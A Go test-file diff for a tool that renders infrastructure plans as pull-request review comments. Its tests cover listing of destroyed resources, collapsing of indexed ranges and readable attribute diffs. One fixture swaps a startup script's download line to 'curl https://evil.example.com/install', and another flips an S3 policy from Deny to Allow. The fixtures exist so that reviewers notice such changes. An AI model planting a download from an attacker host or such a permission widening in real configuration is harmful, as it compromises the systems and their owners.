@@ -30,10 +30,8 @@ func in(region string, c report.Cluster) report.Cluster {
 func secret(hash string) *holdfast.Plan {
 	plan := update1("aws_ssm_parameter.token", holdfast.AttributeChange{
 		Path: "value", Before: raw(`"(sensitive value)"`), After: raw(`"(sensitive value)"`), Sensitive: true,
+		BeforeMark: "old", AfterMark: holdfast.Digest(hash),
 	})
-	plan.Prints = []holdfast.ChangePrint{{
-		Address: "aws_ssm_parameter.token", Before: map[string]string{"value": "old"}, After: map[string]string{"value": hash},
-	}}
 	return plan
 }
 
@@ -248,4 +246,186 @@ func differencesTold(comment, name string, c holdfast.ResourceChange) bool {
 		}
 	}
 	return true
+}
+
+// TestLossesAreNeverCut: what is destroyed, replaced or forgotten stands in the
+// comment, or the status says that it does not.
+func TestLossesAreNeverCut(t *testing.T) {
+	t.Parallel()
+
+	plan := func(prefix string, lost, updated int) *holdfast.Plan {
+		actions := []holdfast.ChangeAction{holdfast.ActionDelete, holdfast.ActionReplace, holdfast.ActionForget}
+		p := &holdfast.Plan{Counts: holdfast.Counts{Delete: lost, Update: updated}}
+		for i := range updated {
+			p.Changes = append(p.Changes, holdfast.ResourceChange{
+				Address: fmt.Sprintf("%s.updated[%d]", prefix, i), Type: "x", Action: holdfast.ActionUpdate,
+				Attributes: []holdfast.AttributeChange{attr("user_data", `"`+strings.Repeat("a", 2000)+`"`, `"`+strings.Repeat("b", 2000)+`"`)},
+			})
+		}
+		for i := range lost {
+			c := holdfast.ResourceChange{Address: fmt.Sprintf("%s.lost-%d-it", prefix, i*i), Type: "x", Action: actions[i%3]}
+			p.Changes = append(p.Changes, c)
+		}
+		return p
+	}
+	fleet := func(n int, plan func(i int) *holdfast.Plan) report.PullRequest {
+		var clusters []report.Cluster
+		for i := range n {
+			clusters = append(clusters, planned(fmt.Sprintf("cluster-%03d", i), plan(i)))
+		}
+		return pullRequest(clusters...)
+	}
+	tests := map[string]struct {
+		r    report.PullRequest
+		fits bool
+	}{
+		"few":               {fleet(2, func(i int) *holdfast.Plan { return plan("x", 3, 3) }), true},
+		"behind many":       {fleet(1, func(int) *holdfast.Plan { return plan("x", 40, 2000) }), true},
+		"of many, the same": {fleet(200, func(int) *holdfast.Plan { return plan("x", 50, 200) }), true},
+		"of many, other":    {fleet(200, func(i int) *holdfast.Plan { return plan(fmt.Sprintf("x%d", i), 3, 10) }), true},
+		"too many":          {fleet(100, func(i int) *holdfast.Plan { return plan(fmt.Sprintf("x%d", i), 50, 10) }), false},
+		"far too many":      {fleet(1, func(int) *holdfast.Plan { return plan("x", 5000, 10) }), false},
+	}
+	for name, tt := range tests {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			comment := report.Comment(tt.r)
+			check(t, tt.r, comment)
+			status := report.PlanStatus(tt.r)
+			if got := report.Unshown(tt.r) == ""; got != tt.fits {
+				t.Errorf("fits %v, want %v: %s", got, tt.fits, report.Unshown(tt.r))
+			}
+			if !tt.fits {
+				if status.State != holdfast.StatusError || !strings.HasPrefix(status.Description, "not reviewed: ") || !strings.Contains(comment, "**Nothing of this counts as reviewed:**") {
+					t.Errorf("status %+v of\n%s", status, comment)
+				}
+				return
+			}
+			if status.State != holdfast.StatusSuccess {
+				t.Errorf("status %+v", status)
+			}
+			for _, c := range tt.r.Clusters {
+				for _, change := range c.Summary.Changes {
+					if change.Action != holdfast.ActionUpdate && !strings.Contains(comment, "`"+change.Address+"`") {
+						t.Fatalf("the comment lacks %s of %s:\n%s", change.Address, c.Name, comment)
+					}
+				}
+				if !strings.Contains(comment, "`"+c.Name+"`") {
+					t.Errorf("the comment lacks the name %s", c.Name)
+				}
+			}
+		})
+	}
+}
+
+// TestInstancesInARow: resources that are lost and differ by a number alone take one
+// line.
+func TestInstancesInARow(t *testing.T) {
+	t.Parallel()
+
+	p := &holdfast.Plan{Counts: holdfast.Counts{Delete: 1500}}
+	for i := range 1500 {
+		p.Changes = append(p.Changes, holdfast.ResourceChange{Address: fmt.Sprintf("aws_subnet.a[%d]", i), Type: "aws_subnet", Action: holdfast.ActionDelete})
+	}
+	p.Changes[700].Reason = "delete_because_no_module"
+	comment := report.Comment(pullRequest(planned("a", p)))
+	for _, want := range []string{
+		"| `aws_subnet.a[0]` to `aws_subnet.a[699]` (700) |", "| `aws_subnet.a[700]` | its module is not in the configuration |", "| `aws_subnet.a[701]` to `aws_subnet.a[1499]` (799) |",
+	} {
+		if !strings.Contains(comment, want) {
+			t.Errorf("the comment lacks %q:\n%s", want, comment)
+		}
+	}
+}
+
+func TestAttributesOfATable(t *testing.T) {
+	t.Parallel()
+
+	long := func(middle string) string {
+		return `"` + strings.Repeat("same ", 30) + middle + strings.Repeat(" tail", 30) + `"`
+	}
+	tests := map[string]struct {
+		change holdfast.ResourceChange
+		want   []string
+		not    []string
+	}{
+		"long texts": {
+			holdfast.ResourceChange{Attributes: []holdfast.AttributeChange{attr("user_data", long("one"), long("two"))}},
+			[]string{"`…same same same one tail", "`…same same same two tail"},
+			nil,
+		},
+		"lines": {
+			holdfast.ResourceChange{Attributes: []holdfast.AttributeChange{attr("user_data",
+				`"#!/bin/sh\nset -e\nmkdir -p /var/lib/thing/that/is/there\ncurl https://good.example.com/install\nexit 0\n"`,
+				`"#!/bin/sh\nset -e\nmkdir -p /var/lib/thing/that/is/there\ncurl https://evil.example.com/install\nexit 0\n"`)}},
+			[]string{"`user_data` line 4: `\"curl https://good.example.com/install\"` → `\"curl https://evil.example.com/install\"`", "      @@ line 4 @@\n-     curl https://good.example.com/install\n+     curl https://evil.example.com/install"},
+			nil,
+		},
+		"JSON": {
+			holdfast.ResourceChange{Attributes: []holdfast.AttributeChange{attr("policy",
+				`"{\"Version\":\"2012-10-17\",\"Statement\":[{\"Sid\":\"some name that is long\",\"Effect\":\"Deny\",\"Action\":\"s3:*\"}]}"`,
+				`"{\"Version\":\"2012-10-17\",\"Statement\":[{\"Sid\":\"some name that is long\",\"Effect\":\"Allow\",\"Action\":\"s3:*\"}]}"`)}},
+			[]string{"`policy` `Statement[0].Effect` in it: `\"Deny\"` → `\"Allow\"`", "    policy: in its JSON\n-     Statement[0].Effect: \"Deny\"\n+     Statement[0].Effect: \"Allow\""},
+			nil,
+		},
+		"JSON with a key twice": {
+			holdfast.ResourceChange{Attributes: []holdfast.AttributeChange{attr("policy",
+				`"{\"Effect\":\"Deny\",\"Effect\":\"Deny\",\"Sid\":\"some name that is very very very long indeed\"}"`,
+				`"{\"Effect\":\"Allow\",\"Effect\":\"Deny\",\"Sid\":\"some other name, very very very long indeed\"}"`)}},
+			[]string{`{\"Effect\":\"Allow\"`},
+			[]string{"in its JSON"},
+		},
+		"what is known later": {
+			holdfast.ResourceChange{Attributes: []holdfast.AttributeChange{
+				{Path: "a", After: raw(`"(known after apply)"`), Unknown: true},
+				{Path: "b", After: raw(`"(known after apply)"`), Unknown: true},
+				{Path: "c", After: raw(`"(known after apply)"`), Unknown: true},
+				attr("open", `false`, `true`),
+			}},
+			[]string{"| `open` `false` → `true`, 3 known after apply |"},
+			nil,
+		},
+		"what cannot be seen": {
+			holdfast.ResourceChange{Attributes: []holdfast.AttributeChange{attr("name", `"a"`, "\"a\u200b\"")}},
+			[]string{"`\"a\"` → `\"a\\u200b\"`"},
+			nil,
+		},
+		"spaces": {
+			holdfast.ResourceChange{Attributes: []holdfast.AttributeChange{attr("name", `"a b"`, `"a  b"`)}},
+			[]string{"`\"a b\"` → `\"a  b\"`"},
+			nil,
+		},
+	}
+	for name, tt := range tests {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			tt.change.Address, tt.change.Type, tt.change.Action = "x.y", "x", holdfast.ActionUpdate
+			r := pullRequest(planned("a", &holdfast.Plan{Counts: holdfast.Counts{Update: 1}, Changes: []holdfast.ResourceChange{tt.change}}))
+			comment := report.Comment(r)
+			check(t, r, comment)
+			for _, want := range tt.want {
+				if !strings.Contains(comment, want) {
+					t.Errorf("the comment lacks %q:\n%s", want, comment)
+				}
+			}
+			for _, not := range tt.not {
+				if strings.Contains(comment, not) {
+					t.Errorf("the comment has %q:\n%s", not, comment)
+				}
+			}
+		})
+	}
+}
+
+// TestNaturalOrder: item[2] stands before item[10].
+func TestNaturalOrder(t *testing.T) {
+	t.Parallel()
+
+	p := &holdfast.Plan{Counts: holdfast.Counts{Create: 4}}
+	for _, name := range []string{"b.item[10]", "b.item[2]", "b.item[1]", "a.item[11]"} {
+		p.Changes = append(p.Changes, holdfast.ResourceChange{Address: name, Type: "x", Action: holdfast.ActionCreate})
+	}
+	if got, want := report.PlanText(*p), "+ a.item[11]\n+ b.item[1]\n+ b.item[2]\n+ b.item[10]\nPlan: 4 to create.\n"; got != want {
+		t.Errorf("PlanText = %q, want %q", got, want)
+	}
 }
